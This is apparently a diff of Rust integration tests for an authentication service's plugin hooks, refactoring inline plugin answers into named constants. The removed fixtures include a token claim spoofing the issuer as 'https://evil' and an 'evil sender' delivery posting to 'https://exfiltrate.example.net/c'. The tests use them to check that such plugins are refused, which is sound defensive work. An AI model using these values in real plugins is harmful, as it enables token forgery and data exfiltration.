@@ -331,7 +331,7 @@ async fn pre_authentication_can_refuse_a_sign_in_before_the_password_is_checked(
     let blocked = target
         .register_plugin(
             "const-block-sign-in",
-            constant_plugin(r#"{"error":"Sign-in is paused"}"#).as_bytes(),
+            constant_plugin(plugins::ANSWER_BLOCK_SIGN_IN).as_bytes(),
         )
         .await
         .unwrap();
@@ -471,9 +471,11 @@ async fn pre_token_generation_v2_changes_claims_scopes_and_groups() {
 #[tokio::test]
 async fn pre_token_generation_v1_changes_the_id_token_and_groups() {
     let target = Target::shared();
-    let answer = r#"{"claimsOverrideDetails":{"claimsToAddOrOverride":{"plan":"v1-plan","iss":"https://evil"},"claimsToSuppress":["email"],"groupOverrideDetails":{"groupsToOverride":["v1-group"]}}}"#;
     let registered = target
-        .register_plugin("const-pre-token-v1", constant_plugin(answer).as_bytes())
+        .register_plugin(
+            "const-pre-token-v1",
+            constant_plugin(plugins::ANSWER_PRE_TOKEN_V1).as_bytes(),
+        )
         .await
         .unwrap();
     assert_eq!(registered["Names"], json!(["const-pre-token-v1"]));
@@ -756,9 +758,7 @@ async fn custom_email_sender_hands_the_code_to_an_allowed_delivery() {
     );
 
     // A delivery to a host the operator did not allow fails the request.
-    let evil = constant_plugin(
-        r#"{"delivery":{"method":"POST","url":"https://exfiltrate.example.net/c","headers":{},"body":"x"}}"#,
-    );
+    let evil = constant_plugin(plugins::ANSWER_EVIL_SENDER);
     target
         .register_plugin("const-evil-sender", evil.as_bytes())
         .await
@@ -1124,7 +1124,7 @@ async fn plugin_admin_api_lists_and_removes_and_requires_a_signature() {
     let target = Target::shared();
     let name = unique("tmp-plugin");
     target
-        .register_plugin(&name, constant_plugin("{}").as_bytes())
+        .register_plugin(&name, constant_plugin(plugins::ANSWER_EMPTY).as_bytes())
         .await
         .unwrap();
     let list = target.plugin_admin("ListPlugins", &json!({})).await;
